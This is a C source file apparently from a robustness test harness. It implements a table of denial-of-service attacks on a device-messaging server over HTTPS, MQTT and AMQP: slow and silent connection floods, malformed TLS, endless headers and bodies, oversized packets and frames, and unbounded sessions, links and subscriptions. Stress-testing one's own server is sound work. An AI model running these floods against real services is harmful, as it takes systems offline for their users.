#include "attacks.h"

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../load/sas.h"
#include "peer.h"

enum { MIB = 1048576, RECORD = 0x17, SAID = 65536, AT_ONCE = 2100 };

static unsigned char noise[SAID];
static struct peer peers[AT_ONCE]; /* those that stay until the end */

/* An attack that cannot begin is none, which is told. */
static void need(bool begun)
{
	if (!begun)
		_exit(1);
}

/* The same noise every time. */
static void make_noise(void)
{
	uint32_t x = 2463534242;

	for (size_t i = 0; i < sizeof(noise); i++) {
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		noise[i] = (unsigned char)x;
	}
}

static bool say_text(struct peer *peer, const char *text)
{
	return peer_say(peer, text, strlen(text));
}

/* `count` MiB of the same, or until the server has enough. */
static void say_mib(struct peer *peer, const void *data, size_t len, size_t count)
{
	for (size_t said = 0; said < count * MIB && peer_say(peer, data, len);
	     said += len)
		;
}

/* -- anybody, on any port ------------------------------------------------------------ */

static void garbage(const struct target *target, const struct attack *attack)
{
	struct peer peer;

	make_noise();
	for (size_t i = 0; i < attack->count; i++) {
		if (peer_open(&peer, target->ports[attack->port]))
			peer_say(&peer, noise + i, sizeof(noise) - i);
		peer_close(&peer);
	}
}

/* Whole records of TLS, of all types, with nothing in them that is right. */
static void records(const struct target *target, const struct attack *attack)
{
	unsigned char record[5 + 1024] = { 0, 3, 3, 4, 0 };
	struct peer peer;

	make_noise();
	for (size_t i = 0; i < attack->count; i++) {
		record[0] = (unsigned char)(20 + i % 4);
		memcpy(record + 5, noise + 8 * i, 1024);
		if (peer_open(&peer, target->ports[attack->port]))
			peer_say(&peer, record, sizeof(record));
		peer_close(&peer);
	}
}

static void inside_tls(const struct target *target, const struct attack *attack)
{
	struct peer peer;

	make_noise();
	for (size_t i = 0; i < attack->count; i++) {
		if (peer_open_tls(&peer, target->tls, target->ports[attack->port]))
			peer_say(&peer, noise + 97 * i, 8192);
		peer_close(&peer);
	}
}

/* Connections that say nothing, by TCP. */
static void silent(const struct target *target, const struct attack *attack)
{
	for (size_t i = 0; i < attack->count; i++)
		peer_open(&peers[i], target->ports[attack->port]);
}

/* And by TLS. */
static void silent_tls(const struct target *target, const struct attack *attack)
{
	for (size_t i = 0; i < attack->count; i++)
		peer_open_tls(&peers[i], target->tls, target->ports[attack->port]);
}

static void storm(const struct target *target, const struct attack *attack)
{
	struct peer peer;

	for (size_t i = 0; i < attack->count; i++) {
		peer_open(&peer, target->ports[attack->port]);
		peer_close(&peer);
	}
}

/* What begins well goes on a byte at a time and never ends. */
static void slow(const struct target *target, const struct attack *attack)
{
	static const char *const begins[PORTS] = {
		[HTTPS] = "GET /devices/a?api-version=2021-04-12 HTTP/1.1\r\nA: b",
		[MQTT] = "\x10\x7f\0\4MQTT\4\2\0\x3c\0\x40 no identifier is as long",
		[AMQP] = "AMQP\3\1\0\0\0\0\1\0\2\1\0\0\0\x53\x41 and so on",
	};
	static const size_t lens[PORTS] = { 51, 38, 30 };

	silent_tls(target, attack);
	for (size_t at = 0; at < lens[attack->port]; at++)
		for (size_t i = 0; i < attack->count; i++)
			if (peers[i].fd >= 0 &&
			    !peer_say(&peers[i], begins[attack->port] + at, 1))
				peer_close(&peers[i]);
}

/* -- HTTPS --------------------------------------------------------------------------- */

static void https_endless(const struct target *target, const struct attack *attack,
			  const char *begins, const char *goes_on)
{
	static char many[SAID];
	size_t len = strlen(goes_on), n = sizeof(many) / len;

	for (size_t i = 0; i < n; i++)
		memcpy(many + i * len, goes_on, len);
	if (peer_open_tls(peers, target->tls, target->ports[HTTPS]) &&
	    say_text(peers, begins))
		say_mib(peers, many, n * len, attack->count);
}

static void https_headers(const struct target *target, const struct attack *attack)
{
	https_endless(target, attack, "GET / HTTP/1.1\r\n", "A: bcdefghijkl\r\n");
}

static void https_line(const struct target *target, const struct attack *attack)
{
	https_endless(target, attack, "GET /", "abcdefghijklmnop");
}

static void https_body(const struct target *target, const struct attack *attack)
{
	https_endless(target, attack,
		      "POST /devices?api-version=2021-04-12 HTTP/1.1\r\nHost: h\r\n"
		      "Content-Length: 1099511627776\r\n\r\n",
		      "[1,2,3,4,5,6,7,8");
}

static void https_chunks(const struct target *target, const struct attack *attack)
{
	https_endless(target, attack,
		      "POST /devices?api-version=2021-04-12 HTTP/1.1\r\nHost: h\r\n"
		      "Transfer-Encoding: chunked\r\n\r\n",
		      "1\r\na\r\n");
}

/* -- MQTT ---------------------------------------------------------------------------- */

/* Past CONNECT, as a device that is one. */
static void as_device(struct peer *peer, const struct target *target)
{
	char user[512], password[512];
	unsigned char packet[2048] = { 0x10, 0,   0, 0,    4, 'M', 'Q',
				       'T',  'T', 4, 0xc2, 0, 60 };
	const char *texts[3] = { target->id, user, password };
	size_t at = 13;

	snprintf(user, sizeof(user), "%s/%s/?api-version=2021-04-12", target->host,
		 target->id);
	sas_of_device(password, sizeof(password), target->host, target->id, target->key);
	for (int i = 0; i < 3; i++) {
		packet[at++] = (unsigned char)(strlen(texts[i]) >> 8);
		packet[at++] = (unsigned char)strlen(texts[i]);
		memcpy(packet + at, texts[i], strlen(texts[i]));
		at += strlen(texts[i]);
	}
	packet[1] = (unsigned char)((at - 3) % 128 | 128);
	packet[2] = (unsigned char)((at - 3) / 128);
	need(peer_open_tls(peer, target->tls, target->ports[MQTT]) &&
	     peer_say(peer, packet, at) && peer_hear(peer, packet, 4) == 4 &&
	     packet[3] == 0);
}

/* The longest packet there is, never ended; before CONNECT and as a part of it. */
static void mqtt_endless(const struct target *target, const struct attack *attack)
{
	static const unsigned char begins[] = { 0x10, 0xff, 0xff, 0xff, 0x7f,
						0,    4,    'M',  'Q',  'T' };

	make_noise();
	if (peer_open_tls(peers, target->tls, target->ports[MQTT]) &&
	    peer_say(peers, begins, sizeof(begins)))
		say_mib(peers, noise, sizeof(noise), attack->count);
}

/* The same from a device: an event of 256 MiB. */
static void mqtt_huge_event(const struct target *target, const struct attack *attack)
{
	static const unsigned char begins[] = { 0x32, 0xff, 0xff, 0xff, 0x7f, 0, 8 };

	make_noise();
	as_device(peers, target);
	if (peer_say(peers, begins, sizeof(begins)) && say_text(peers, "devices/"))
		say_mib(peers, noise, sizeof(noise), attack->count);
}

/* A packet of 2 + 65,535 bytes of topic, and 2 of body; how it begins differs. */
static void mqtt_huge_topic(const struct target *target, const struct attack *attack)
{
	static char packet[4 + 2 + 65535 + 4];
	static const unsigned char header[] = { 0x32, 0x85, 0x80, 0x04, 0xff, 0xff };
	int len;

	memset(packet, '&', sizeof(packet));
	memcpy(packet, header, sizeof(header));
	len = snprintf(packet + 6, 512, "devices/%s/messages/events/a=", target->id);
	packet[6 + len] = 'b';
	for (size_t i = 0; i < attack->count; i++) {
		as_device(peers, target);
		say_mib(peers, packet, sizeof(packet), 1);
		peer_close(peers);
	}
}

static void mqtt_subscribes(const struct target *target, const struct attack *attack)
{
	unsigned char packet[6 + 55 + 1] = { 0x82, 60, 0, 1, 0, 55 };
	char topic[64];

	as_device(peers, target);
	for (size_t i = 0; i < attack->count; i++) {
		snprintf(topic, sizeof(topic), "devices/a/messages/%036zu", i);
		memcpy(packet + 6, topic, 55);
		packet[61] = 1;
		if (!peer_say(peers, packet, sizeof(packet)))
			return;
	}
}

/* Events without end, and none of the acknowledgements read. */
static void mqtt_deaf(const struct target *target, const struct attack *attack)
{
	static unsigned char many[SAID];
	char topic[256];
	size_t len = (size_t)snprintf(topic, sizeof(topic), "devices/%s/messages/events/",
				      target->id);
	size_t packet = 4 + len + 2, n = sizeof(many) / packet;

	for (size_t i = 0; i < n; i++) {
		unsigned char *at = many + i * packet;

		at[0] = 0x32;
		at[1] = (unsigned char)(packet - 2);
		at[3] = (unsigned char)len;
		memcpy(at + 4, topic, len);
		at[4 + len] = (unsigned char)(i >> 8);
		at[5 + len] = (unsigned char)(i + 1);
	}
	as_device(peers, target);
	say_mib(peers, many, n * packet, attack->count);
}

/* -- AMQP ---------------------------------------------------------------------------- */

static size_t number(unsigned char *at, size_t value)
{
	for (int i = 0; i < 4; i++)
		at[i] = (unsigned char)(value >> (24 - 8 * i));
	return 4;
}

/* A frame (AMQP 1.0, 2.3.1) of type 0, or of SASL's, 1. */
static size_t frame(unsigned char *at, int type, unsigned channel, const void *body,
		    size_t len)
{
	number(at, 8 + len);
	at[4] = 2;
	at[5] = (unsigned char)type;
	at[6] = (unsigned char)(channel >> 8);
	at[7] = (unsigned char)channel;
	memcpy(at + 8, body, len);
	return 8 + len;
}

/* Past SASL ANONYMOUS, as whoever has not shown a token yet, and open. */
static void as_nobody(struct peer *peer, const struct target *target)
{
	static const char init[] = "\0\x53\x41\xc0\x0c\1\xa3\x09"
				   "ANONYMOUS";
	static const char open[] = "\0\x53\x10\xc0\x0a\2\xa1\4evil\xa1\1h";
	unsigned char out[128], in[1024];
	size_t n = 8;

	memcpy(out, "AMQP\3\1\0\0", 8);
	n += frame(out + n, 1, 0, init, sizeof(init) - 1);
	need(peer_open_tls(peer, target->tls, target->ports[AMQP]) &&
	     peer_say(peer, out, n) && peer_hear(peer, in, sizeof(in)) > 0);
	memcpy(out, "AMQP\0\1\0\0", 8);
	n = 8 + frame(out + 8, 0, 0, open, sizeof(open) - 1);
	need(peer_say(peer, out, n));
}

static void amqp_long_frame(const struct target *target, const struct attack *attack)
{
	static const unsigned char begins[] = { 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0 };

	make_noise();
	as_nobody(peers, target);
	if (peer_say(peers, begins, sizeof(begins)))
		say_mib(peers, noise, sizeof(noise), attack->count);
}

/* The same as the answer to the question who it is. */
static void amqp_long_sasl(const struct target *target, const struct attack *attack)
{
	static const unsigned char begins[] =
		"AMQP\3\1\0\0\xff\xff\xff\xff\2\1\0\0\0\x53\x41"
		"\xd0\xff\xff\xff\xf0\0\0\0\2\xa3\5PLAIN"
		"\xb0\xff\xff\xff\xc0";

	make_noise();
	if (peer_open_tls(peers, target->tls, target->ports[AMQP]) &&
	    peer_say(peers, begins, sizeof(begins) - 1))
		say_mib(peers, noise, sizeof(noise), attack->count);
}

static void amqp_begins(const struct target *target, const struct attack *attack)
{
	static const char begin[] = "\0\x53\x11\xc0\x07\4\x40\x43\x52\x0a\x52\x0a";
	unsigned char out[64];

	as_nobody(peers, target);
	for (size_t i = 0; i < attack->count; i++)
		if (!peer_say(peers, out,
			      frame(out, 0, (unsigned)i, begin, sizeof(begin) - 1)))
			return;
}

/* A link, of which it is the receiver, of what is for those with a token. */
static size_t attach(unsigned char *at, size_t handle)
{
	static const char source[] = "\0\x53\x28\xc0\x12\1\xa1\x0fmessages/events";
	static const char target[] = "\0\x53\x29\x45";
	unsigned char body[96] = { 0, 0x53, 0x12, 0xc0, 0, 7, 0xa1, 8 };
	size_t n = 8 + (size_t)snprintf((char *)body + 8, 9, "%08zu", handle);

	body[n++] = 0x70;
	n += number(body + n, handle);
	memcpy(body + n, "\x41\x40\x40", 3);
	n += 3;
	memcpy(body + n, source, sizeof(source) - 1);
	n += sizeof(source) - 1;
	memcpy(body + n, target, sizeof(target) - 1);
	n += sizeof(target) - 1;
	body[4] = (unsigned char)(n - 5);
	return frame(at, 0, 0, body, n);
}

static void amqp_attaches(const struct target *target, const struct attack *attack)
{
	static const char begin[] = "\0\x53\x11\xc0\x07\4\x40\x43\x52\x0a\x52\x0a";
	unsigned char out[256];

	as_nobody(peers, target);
	if (!peer_say(peers, out, frame(out, 0, 0, begin, sizeof(begin) - 1)))
		return;
	for (size_t i = 0; i < attack->count; i++)
		if (!peer_say(peers, out, attach(out, i)))
			return;
}

/* All the credit there is, again and again, for links that nobody has attached or read. */
static void amqp_flows(const struct target *target, const struct attack *attack)
{
	static const char begin[] = "\0\x53\x11\xc0\x07\4\x40\x43\x52\x0a\x52\x0a";
	static const char flow[] = "\0\x53\x13\xc0\x17\x0a\x43\x70\x7f\xff\xff\xff\x43"
				   "\x70\x7f\xff\xff\xff\x43\x43\x70\xff\xff\xff\xff"
				   "\x40\x40\x41";
	unsigned char out[256];

	as_nobody(peers, target);
	if (!peer_say(peers, out, frame(out, 0, 0, begin, sizeof(begin) - 1)) ||
	    !peer_say(peers, out, attach(out, 0)))
		return;
	for (size_t i = 0; i < attack->count; i++)
		if (!peer_say(peers, out, frame(out, 0, 0, flow, sizeof(flow) - 1)))
			return;
}

/* ------------------------------------------------------------------------------------ */

const struct attack attacks[] = {
	{ "HTTPS: garbage", garbage, HTTPS, 200, 48 },
	{ "MQTT: garbage", garbage, MQTT, 200, 48 },
	{ "AMQP: garbage", garbage, AMQP, 200, 48 },
	{ "HTTPS: records of TLS that are none", records, HTTPS, 400, 48 },
	{ "MQTT: records of TLS that are none", records, MQTT, 400, 48 },
	{ "AMQP: records of TLS that are none", records, AMQP, 400, 48 },
	{ "HTTPS: garbage by TLS", inside_tls, HTTPS, 100, 48 },
	{ "MQTT: garbage by TLS", inside_tls, MQTT, 100, 48 },
	{ "AMQP: garbage by TLS", inside_tls, AMQP, 100, 48 },
	{ "HTTPS: 200 that send a byte at a time", slow, HTTPS, 200, 128 },
	{ "MQTT: 200 that send a byte at a time", slow, MQTT, 200, 128 },
	{ "AMQP: 200 that send a byte at a time", slow, AMQP, 200, 128 },
	{ "HTTPS: headers without end", https_headers, HTTPS, 64, 48 },
	{ "HTTPS: a first line without end", https_line, HTTPS, 64, 48 },
	{ "HTTPS: a body without end", https_body, HTTPS, 64, 48 },
	{ "HTTPS: chunks without end", https_chunks, HTTPS, 16, 48 },
	{ "MQTT: a CONNECT without end", mqtt_endless, MQTT, 64, 48 },
	{ "MQTT: an event without end", mqtt_huge_event, MQTT, 64, 48 },
	{ "MQTT: the longest topics and bags", mqtt_huge_topic, MQTT, 20, 48 },
	{ "MQTT: subscriptions without end", mqtt_subscribes, MQTT, 100000, 48 },
	{ "MQTT: events, acknowledgements not read", mqtt_deaf, MQTT, 16, 160 },
	{ "AMQP: a frame of 4 GiB", amqp_long_frame, AMQP, 64, 48 },
	{ "AMQP: a proof of 4 GiB", amqp_long_sasl, AMQP, 64, 48 },
	{ "AMQP: sessions without end", amqp_begins, AMQP, 65536, 160 },
	{ "AMQP: links without end", amqp_attaches, AMQP, 20000, 160 },
	{ "AMQP: credit without end", amqp_flows, AMQP, 100000, 48 },
	{ "HTTPS: connected and gone", storm, HTTPS, 2000, 128 },
	{ "MQTT: connected and gone", storm, MQTT, 2000, 128 },
	{ "AMQP: connected and gone", storm, AMQP, 2000, 128 },
	{ "HTTPS: 2,000 that say nothing", silent, HTTPS, 2000, 256 },
	{ "MQTT: 2,000 that say nothing", silent, MQTT, 2000, 256 },
	{ "AMQP: 2,000 that say nothing", silent, AMQP, 2000, 256 },
	{ "HTTPS: 200 that say nothing by TLS", silent_tls, HTTPS, 200, 128 },
	{ "MQTT: 200 that say nothing by TLS", silent_tls, MQTT, 200, 128 },
	{ "AMQP: 200 that say nothing by TLS", silent_tls, AMQP, 200, 128 },
};

const size_t attack_count = sizeof(attacks) / sizeof(attacks[0]);
